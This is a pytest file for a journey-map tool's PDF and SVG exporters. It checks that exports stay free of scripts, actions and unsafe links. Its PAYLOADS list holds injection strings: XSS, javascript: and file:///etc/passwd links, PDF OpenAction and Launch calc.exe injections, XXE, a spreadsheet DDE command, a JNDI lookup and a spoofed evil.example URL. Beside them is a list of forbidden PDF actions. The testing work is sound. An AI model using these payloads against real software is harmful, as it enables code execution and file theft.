"""A map that tries everything leaves as ink and harmless addresses: no script, action, form, file or formula."""

import re
import shutil
import subprocess
from functools import cache
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from journeycanvas.files import load
from journeycanvas.model import CARD_KINDS, Journey, MapFacts
from journeycanvas.model.lists import LISTS
from journeycanvas.places import resources_folder
from journeycanvas.render.addresses import harmless
from journeycanvas.render.drawing import Instruments
from journeycanvas.render.exporting import export
from journeycanvas.render.wishes import Wish
from tests.builders import FILE, ONE_CELL, a_file, opened
from tests.render.reading import dictionaries, objects, read_pdf

PAYLOADS = (
    "<img src='/tmp/secret.png'> <script>alert(1)</script>",
    "javascript:alert(1) https://example.org/x file:///etc/passwd",
    ") /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (",
    "endstream endobj 1 0 obj << /S /Launch /F (calc.exe) >>",
    '"><svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a>',
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;<!-- --",
    "<para><font color=\"[[getattr(pow,'x')]]\">x</font></para> a <b> c",
    "=cmd|' /C calc'!A0 @SUM(1) +1 -1",
    "\\input{/etc/passwd} ${jndi:ldap://example.org} {{7*7}} %s%n",
    "https://bank.example@evil.example/ mailto:a@example.org?attach=/etc/passwd ‮gpj.exe",
    "به https://example.org/راه و \\u202e <a href='smb://host/x'>سلام</a>",
)

FORBIDDEN = frozenset(
    {
        *("/JS", "/JavaScript", "/Launch", "/OpenAction", "/AA", "/EmbeddedFile", "/EmbeddedFiles", "/EF", "/Filespec"),
        *(
            "/RichMedia",
            "/Rendition",
            "/Movie",
            "/Sound",
            "/GoToR",
            "/GoToE",
            "/SubmitForm",
            "/ImportData",
            "/AcroForm",
        ),
        *("/XFA", "/Thread", "/Named", "/Collection", "/URI_base"),
    }
)

TAGS = frozenset(
    {
        *("svg", "title", "desc", "style", "defs", "symbol", "clipPath", "g", "use", "a"),
        *("path", "rect", "line", "text", "tspan", "image"),
    }
)


@pytest.fixture(scope="module", params=range(len(PAYLOADS)), ids=lambda number: f"payload{number}")
def hostile(request: pytest.FixtureRequest) -> Journey:
    """A map with one payload in every field that takes a text, and the others in its cards."""
    text = PAYLOADS[request.param]
    keys = {key for key, field in MapFacts.model_fields.items() if "str" in str(field.annotation)}
    free = keys - {"id", "direction", "basis", "digits", "logo", "photos", "language"}
    parts: dict[str, Any] = {name: [_row(name, text)] for name in LISTS if name not in ("cards", "links")}
    cards = [{**_row("cards", one), "id": f"c{n}", "kind": kind} for n, (kind, one) in enumerate(_pairs())]
    map_file = load(
        a_file(
            map={**dict.fromkeys(free, text), "id": "m", "language": "fa", "title": text},
            **parts,
            cards=cards,
            links=[{"id": "k", "from": "c0", "to": "c1", "label": text}],
        ),
        FILE,
    )
    assert len(map_file.journey.cards) == len(cards)
    return map_file.journey


@cache
def instruments() -> Instruments:
    return Instruments.at(resources_folder())


def exported(journey: Journey, folder: Path, format: str) -> bytes:
    path = folder / f"out.{format}"
    export(journey, path, Wish(format), instruments(), "v")
    assert list(folder.iterdir()) == [path]
    return path.read_bytes()


def test_a_pdf_does_nothing_but_show_itself_and_name_web_and_mail(hostile: Journey, tmp_path: Path) -> None:
    content = exported(hostile, tmp_path, "pdf")

    for value in objects(read_pdf(content)):
        for entry in dictionaries(value):
            names = {*entry, *(str(one) for one in entry.values() if isinstance(one, str) and str(one).startswith("/"))}
            assert not names & FORBIDDEN
            if "/S" in entry and "/URI" in entry:
                assert harmless(str(entry["/URI"])) == str(entry["/URI"])
            if entry.get("/Type") == "/Action" or entry.get("/Subtype") == "/Link":
                assert str(entry.get("/S", "/URI")) == "/URI"


@pytest.mark.skipif(shutil.which("qpdf") is None, reason="qpdf is not installed")
def test_a_pdf_is_sound(hostile: Journey, tmp_path: Path) -> None:
    exported(hostile, tmp_path, "pdf")
    checked = subprocess.run(["qpdf", "--check", tmp_path / "out.pdf"], capture_output=True, text=True, check=False)

    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_an_svg_holds_ink_and_harmless_addresses_only(hostile: Journey, tmp_path: Path) -> None:
    content = exported(hostile, tmp_path, "svg")
    assert b"<!" not in content.replace(b"<!--", b"")

    for element in ElementTree.fromstring(content).iter():
        tag = str(element.tag).rpartition("}")[2]
        assert tag in TAGS, tag
        if tag == "style":
            assert set(re.findall(r"url\((.{11})", element.text or "")) <= {'"data:font/'}
            assert "@import" not in (element.text or "")
        for key, value in element.attrib.items():
            name = key.rpartition("}")[2].lower()
            assert not name.startswith("on"), name
            assert name != "style" or "url" not in value
            if name == "href":
                is_own = value.startswith(("#", "data:image/png;base64,", "data:image/jpeg;base64,"))
                assert is_own or harmless(value) == value, value


@pytest.mark.parametrize(
    "text", ["۱۲۳" * 40, "٤٥٦" * 40, "1" * 120, "ه" + "ٔ" * 400, "e" + "\u0301" * 400, "ש" + "\u05b8" * 400, "ـ" * 300]
)
def test_a_text_whose_glyphs_would_leave_the_font_is_written_all_the_same(text: str, tmp_path: Path) -> None:
    journey = opened(**ONE_CELL, cards=[{"id": "c", "lane": "l0", "stage": "s0", "text": text}])

    assert len(read_pdf(exported(journey, tmp_path, "pdf")).pages) == 1


def _row(name: str, text: str) -> dict[str, Any]:
    kind = CARD_KINDS["note"] if name == "cards" else LISTS[name]
    keys = [key for key, field in kind.model_fields.items() if field.annotation is str and key not in ("id", "order")]
    return {
        **dict.fromkeys(keys, text),
        "id": f"{name}1",
        **({"on": "m"} if name == "comments" else {"lane": "lanes1", "stage": "stages1"} if name == "cards" else {}),
        **({"facts": [text], "goals": [text]} if name == "personas" else {}),
    }


def _pairs() -> list[tuple[str, str]]:
    kinds = list(CARD_KINDS)
    return [(kinds[number % len(kinds)], text) for number, text in enumerate(PAYLOADS)]
